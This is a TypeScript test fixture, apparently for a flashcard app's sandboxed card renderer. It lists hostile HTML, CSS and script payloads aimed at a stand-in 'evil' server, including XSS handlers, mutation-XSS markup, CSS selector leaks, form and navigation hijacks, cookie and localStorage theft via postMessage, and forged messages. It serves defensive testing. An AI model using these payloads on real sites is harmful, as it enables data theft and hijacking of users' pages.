export type HostileCard = {
  readonly name: string;
  /** `evil` is the address of somebody else's server. */
  readonly html: (evil: string) => string;
};

const script = (code: string): string => `<style>.card{}</style>A word<script>${code}</script>`;

/** They try by their HTML and CSS alone; their scripts do not run. */
export const HOSTILE_CARDS: readonly HostileCard[] = [
  { name: 'script', html: (evil) => script(`fetch('${evil}/script')`) },
  { name: 'script from elsewhere', html: (evil) => `x<script src="${evil}/a.js"></script>` },
  {
    name: 'inline handlers',
    html: (evil) => `<img src=x onerror="fetch('${evil}/onerror')"><b onclick="fetch('${evil}')">b</b>`,
  },
  {
    name: 'handlers in SVG',
    html: (evil) =>
      `<svg onload="fetch('${evil}/svg')"><animate onbegin="fetch('${evil}/begin')" attributeName=x dur=1s /></svg>`,
  },
  { name: 'javascript: link', html: (evil) => `<a id=go href="javascript:fetch('${evil}/link')">go</a>` },
  {
    name: 'remote pictures',
    html: (evil) =>
      `<img src="${evil}/i.png"><img srcset="${evil}/s.png 2x"><picture><source srcset="${evil}/p.png"><img src="data:,"></picture><input type=image src="${evil}/n.png">`,
  },
  {
    name: 'picture without a scheme',
    html: (evil) =>
      `<img src="${evil.replace('http:', '')}/i.png"><img src="\\\\${evil.replace('http://', '')}/b.png">`,
  },
  {
    name: 'pictures in SVG',
    html: (evil) =>
      `<svg><image href="${evil}/a.png"/><image xlink:href="${evil}/b.png"/><use href="${evil}/c.svg#x"/><feImage href="${evil}/d.png"/><filter id=f><feImage href="${evil}/e.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  },
  {
    name: 'media elements',
    html: (evil) =>
      `<video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio><video><source src="${evil}/s.mp4"><track src="${evil}/t.vtt" default></video>`,
  },
  {
    name: 'style that loads',
    html: (evil) =>
      `<style>@import "${evil}/i.css";@import url(${evil}/j.css);@font-face{font-family:x;src:url(${evil}/f.woff)}body{background:url(${evil}/bg.png);font-family:x;cursor:url(${evil}/c.cur),auto}p::before{content:url(${evil}/p.png)}</style><p>p</p><ul style="list-style-image:url(${evil}/l.png)"><li>x</ul>`,
  },
  {
    name: 'escaped style',
    html: (evil) =>
      `<style>body{background:u\\72l(${evil}/a.png)}p{background:image-set("${evil}/b.png" 1x)}</style><p>p</p>`,
  },
  {
    name: 'attribute selectors',
    html: (evil) =>
      `[[type:Front]]<style>input[value^="s"]{background:url(${evil}/s)}input{background:url(${evil}/any)}html[class*=iphone]{background:url(${evil}/c)}</style>`,
  },
  {
    name: 'form',
    html: (evil) =>
      `<form action="${evil}/form" target=_top><input name=a value=b autofocus><button id=go>go</button></form>`,
  },
  {
    name: 'button with a form of its own',
    html: (evil) => `<form id=f></form><button id=go form=f formaction="${evil}/f" formtarget=_blank>go</button>`,
  },
  { name: 'refresh', html: (evil) => `<meta http-equiv=refresh content="0;url=${evil}/refresh">x` },
  { name: 'base', html: (evil) => `<base href="${evil}/"><img src=a.png><a id=go href=b>go</a>` },
  {
    name: 'links that load',
    html: (evil) =>
      [
        'stylesheet',
        'prefetch',
        'preload',
        'dns-prefetch',
        'preconnect',
        'prerender',
        'icon',
        'manifest',
        'modulepreload',
      ]
        .map((rel) => `<link rel="${rel}" as=image href="${evil}/${rel}">`)
        .join(''),
  },
  {
    name: 'frames',
    html: (evil) =>
      `<iframe src="${evil}/i"></iframe><iframe srcdoc="<script>fetch('${evil}/d')</script>"></iframe><object data="${evil}/o"></object><embed src="${evil}/e"><frameset><frame src="${evil}/f"></frameset>`,
  },
  { name: 'link that goes', html: (evil) => `<a id=go href="${evil}/top" target=_top ping="${evil}/ping">go</a>` },
  { name: 'link into a new page', html: (evil) => `<a id=go href="${evil}/blank" target=_blank download>go</a>` },
  {
    name: 'link in SVG',
    html: (evil) =>
      `<svg viewBox="0 0 90 30"><a href="${evil}/svg" xlink:href="${evil}/x" target=_top><text id=go y=20>go</text></a></svg>`,
  },
  {
    name: 'map over a picture',
    html: (evil) =>
      `<img id=go usemap="#m" width=100 height=100 src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><map name=m><area shape=rect coords="0,0,100,100" href="${evil}/area" target=_top></map>`,
  },
  {
    name: 'markup that changes when it is parsed again',
    html: (evil) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${evil}/m')&gt;"></table>`,
  },
  {
    name: 'named parts',
    html: () =>
      `<img name=body><img name=head><form name=getElementById></form><a id=parent></a><a id=qa name=qa>z</a><input name=attributes>`,
  },
  {
    name: 'huge picture',
    html: () =>
      `<img style="width:200000px;height:200000px;max-width:none;max-height:none" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='99999' height='99999'><rect width='99999' height='99999'/></svg>">`,
  },
  { name: 'huge text', html: () => `${'<b>'.repeat(2_000)}deep${'x'.repeat(200_000)}` },
  {
    name: 'style over everything',
    html: () => `<style>html,body,*{display:none!important;position:fixed;inset:0;z-index:2147483647}</style>x`,
  },
];

/** Their scripts were let run. They try all that a script could. */
export const HOSTILE_SCRIPTS: readonly HostileCard[] = [
  {
    name: 'fetch, beacon and socket',
    html: (evil) =>
      script(
        `fetch('${evil}/f').catch(()=>{});navigator.sendBeacon('${evil}/b','x');try{new WebSocket('${evil}/w'.replace('http','ws'))}catch{};try{new EventSource('${evil}/e')}catch{};const x=new XMLHttpRequest();x.open('GET','${evil}/x');try{x.send()}catch{}`,
      ),
  },
  {
    name: 'pictures, styles and prefetches',
    html: (evil) =>
      script(
        `new Image().src='${evil}/i';document.body.style.background='url(${evil}/s)';for(const rel of ['prefetch','preload','stylesheet','preconnect','dns-prefetch','modulepreload']){const l=document.createElement('link');l.rel=rel;l.as='script';l.href='${evil}/'+rel;document.head.append(l)};const s=document.createElement('script');s.src='${evil}/j';document.head.append(s);import('${evil}/m').catch(()=>{});const f=document.createElement('iframe');f.src='${evil}/frame';document.body.append(f);new FontFace('z','url(${evil}/z)').load().catch(()=>{})`,
      ),
  },
  {
    name: 'workers',
    html: (evil) =>
      script(
        `try{new Worker('${evil}/w')}catch{};try{new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/bw')"])))}catch{};try{navigator.serviceWorker.register('/sw.js')}catch{}`,
      ),
  },
  {
    name: 'form',
    html: (evil) =>
      script(
        `const f=document.createElement('form');f.action='${evil}/form';f.method='post';document.body.append(f);f.submit();f.target='_top';f.submit()`,
      ),
  },
  {
    name: 'popup',
    html: (evil) => script(`window.open('${evil}/open');window.open('${evil}/self','_self');window.open('/','_blank')`),
  },
  {
    name: 'the top',
    html: (evil) =>
      script(
        `try{top.location='${evil}/top'}catch{};try{parent.location.href='${evil}/parent'}catch{};try{parent.document.title='mine'}catch{};try{parent.frames[0]}catch{};try{parent.cardPage.show({question:'mine'})}catch{}`,
      ),
  },
  { name: 'its own address', html: (evil) => script(`location='${evil}/nav'`) },
  { name: 'its own address, later', html: (evil) => script(`setTimeout(()=>location.replace('${evil}/later'),300)`) },
  { name: 'another page of ours', html: () => script(`location='/'`) },
  { name: 'the address of its media', html: () => script(`location='/api/review/media/token/page.html'`) },
  { name: 'its document again', html: () => script(`location.reload()`) },
  {
    name: 'what this origin keeps',
    html: () =>
      script(
        `let s='';try{s=localStorage.secret}catch{};try{s+=document.cookie}catch{};try{indexedDB.open('lifeline')}catch{};try{caches.keys().then((k)=>parent.postMessage({type:'stolen',k},'*'),()=>{})}catch{};if(s)parent.postMessage({type:'stolen',s},'*');fetch('/api/review/hand').then(()=>parent.postMessage({type:'stolen'},'*'),()=>{})`,
      ),
  },
  {
    name: 'forged messages',
    html: () =>
      script(
        `for(const m of [{type:'grade',ease:4},{type:'reveal'},{type:'tap'},{type:'tap',turn:-1},{type:'tap',turn:999},{type:'play',turn:1,side:'question',index:1e9},{type:'link',turn:1,href:'x'.repeat(1e5)},{type:'typed',turn:1,field:'a',text:'x'.repeat(1e5)},{type:'resize',turn:1,side:'question',height:Infinity},{type:'resize',turn:1,side:'question',height:-1},null,1,'tap',[],{type:'__proto__'},{__proto__:{type:'tap'}}])parent.postMessage(m,'*')`,
      ),
  },
];
